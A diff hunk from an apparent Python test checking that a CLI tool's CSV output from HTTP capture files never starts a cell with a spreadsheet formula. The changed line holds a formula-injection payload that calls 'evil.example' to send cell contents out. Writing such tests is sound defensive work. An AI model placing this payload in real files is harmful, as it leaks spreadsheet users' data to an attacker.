@@ -163,7 +163,7 @@ def test_a_hostile_capture_opened_in_a_spreadsheet_runs_no_formula(tmp_path: Pat
     leaks, report tables): no cell of any CSV written begins with a formula trigger."""
     from toolkit.cli import main
 
-    identifier = "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"
+    identifier = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'
     entries = [
         {
             "startedDateTime": "2020-04-30T09:00:00.000Z",
